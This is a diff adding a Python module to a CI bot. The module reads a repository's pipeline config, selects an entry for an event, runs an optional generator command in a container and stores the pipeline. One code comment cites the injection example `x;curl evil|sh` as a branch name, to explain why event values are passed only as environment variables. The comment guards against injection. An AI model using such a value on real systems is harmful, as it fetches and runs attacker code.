@@ -1,0 +1,129 @@
+"""Turning an event into a stored pipeline: read the config, select, snapshot the source.
+
+The config is read from the very source the containers will see, so what runs
+is what the config at that commit says.  Generated trees (an entry's
+``command``) are made here, by running the command in a container.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import uuid
+from pathlib import Path
+
+from ci_bot.errors import CiBotError, ConfigError, ConfigProblem
+from ci_bot.executors.base import DONE, ExecSpec, Executor
+from ci_bot.executors.logs import tail
+from ci_bot.git import Commit, local_head, local_snapshot
+from ci_bot.settings import Settings
+from ci_bot.store.records import NewPipeline
+from ci_bot.store.store import Store
+from ci_bot.tree.config import CONFIG_FILES, EventEntry, parse_config
+from ci_bot.tree.nodes import Node
+from ci_bot.tree.select import Event, NoMatch, apply_when, select
+from ci_bot.tree.treejson import dumps, from_json
+
+GENERATED_TREE = ".ci-bot-tree.json"
+
+
+class NoPipeline(CiBotError):
+    """The event matched no entry of the config; the message says why, entry by entry."""
+
+
+def launch_local(
+    store: Store, settings: Settings, executor: Executor, repo_dir: Path, event: Event
+) -> int:
+    """Snapshot a working directory as it is and store its pipeline for ``event``."""
+    source = settings.data_dir / "sources" / uuid.uuid4().hex
+    local_snapshot(repo_dir, source)
+    commit = local_head(repo_dir)
+    event = _complete(event, repo_dir.resolve().name, commit)
+    return launch(store, settings, executor, source, event, commit)
+
+
+def launch(
+    store: Store,
+    settings: Settings,
+    executor: Executor,
+    source: Path,
+    event: Event,
+    commit: Commit | None,
+) -> int:
+    """Store the pipeline that ``event`` selects from the config in ``source``."""
+    config_file = next((name for name in CONFIG_FILES if (source / name).is_file()), None)
+    if config_file is None:
+        raise NoPipeline(f"no {' or '.join(CONFIG_FILES)} at the root of the repository")
+    config = parse_config((source / config_file).read_text(encoding="utf-8"), file=config_file)
+    plan = select(config, event)
+    if isinstance(plan, NoMatch):
+        raise NoPipeline(plan.explain())
+    tree, skipped = plan.tree, dict(plan.skipped)
+    if tree is None:
+        generated = generate_tree(settings, executor, plan.entry, event, source, config_file)
+        tree, skipped = apply_when(generated, event)
+    new = NewPipeline(
+        repo=event.repo,
+        event=event.name,
+        tree_json=dumps(tree),
+        branch=event.branch,
+        base_branch=event.base_branch,
+        tag=event.tag,
+        pr=event.pr,
+        sha=event.sha,
+        author=event.author,
+        title=commit.title if commit else "",
+        entry=plan.entry.label,
+        config_file=config_file,
+        source_dir=str(source),
+    )
+    return store.create_pipeline(new, tree, skipped)
+
+
+def generate_tree(
+    settings: Settings,
+    executor: Executor,
+    entry: EventEntry,
+    event: Event,
+    source: Path,
+    config_file: str,
+) -> Node:
+    """Run the entry's ``command`` at the commit; what it prints is the tree."""
+    work = settings.data_dir / "generate" / uuid.uuid4().hex
+    (work / "data").mkdir(parents=True)
+    env = {f"CI_{name.upper()}": value for name, value in event.values().items()}
+    spec = ExecSpec(
+        pipeline_id=f"generate-{work.name}",
+        node_path="/generate",
+        execution_id=work.name,
+        image=entry.image or "",
+        # Only the repository's own command is in the shell string; event values
+        # (a branch may be named `x;curl evil|sh`) reach it as variables.
+        command=f"({entry.command}) > /ci/data/{GENERATED_TREE}",
+        source_dir=source,
+        data_dir=work / "data",
+        cache_dir=work / "cache",
+        log_path=work / "generate.log",
+        env={"CI": "true", "CI_BOT": "1", **env},
+    )
+    if not entry.image:
+        raise _generation_error(config_file, entry, "needs `image`, the image it runs in")
+    result = executor.run(spec)
+    if result.state != DONE:
+        lines = "\n".join(tail(spec.log_path, 20))
+        raise _generation_error(config_file, entry, f"{result.message or result.state}\n{lines}")
+    output = spec.data_dir / GENERATED_TREE
+    return from_json(output.read_text(encoding="utf-8"), file=f"output of {entry.command!r}")
+
+
+def _generation_error(config_file: str, entry: EventEntry, message: str) -> ConfigError:
+    where = f"{entry.event}.command ({entry.command!r})"
+    return ConfigError([ConfigProblem(config_file, entry.line, f"{where}: {message}", key=where)])
+
+
+def _complete(event: Event, repo: str, commit: Commit | None) -> Event:
+    return dataclasses.replace(
+        event,
+        repo=event.repo or repo,
+        sha=event.sha or (commit.sha if commit else ""),
+        author=event.author or (commit.author if commit else ""),
+    )
